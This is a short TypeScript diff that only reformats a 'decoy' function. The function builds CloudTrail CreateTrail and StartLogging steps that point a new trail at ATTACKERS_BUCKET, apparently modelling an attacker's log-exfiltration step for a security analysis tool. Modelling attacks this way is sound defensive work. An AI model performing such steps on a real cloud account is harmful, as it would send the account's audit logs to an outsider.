@@ -7,12 +7,16 @@ import { accountTrails, trailCall } from './parts/trail-update.ts';
 function decoy(trail: Trail, name: string): readonly Step[] {
   const { multiRegion, includeGlobalServiceEvents } = trail;
   const arn = trail.arn.replace(/[^/]*$/, name);
-  const create = trailCall('CreateTrail', { ...trail, arn }, {
-    Name: name,
-    S3BucketName: ATTACKERS_BUCKET,
-    IsMultiRegionTrail: multiRegion,
-    IncludeGlobalServiceEvents: includeGlobalServiceEvents,
-  });
+  const create = trailCall(
+    'CreateTrail',
+    { ...trail, arn },
+    {
+      Name: name,
+      S3BucketName: ATTACKERS_BUCKET,
+      IsMultiRegionTrail: multiRegion,
+      IncludeGlobalServiceEvents: includeGlobalServiceEvents,
+    },
+  );
   return [create, trailCall('StartLogging', { ...trail, arn })];
 }
 
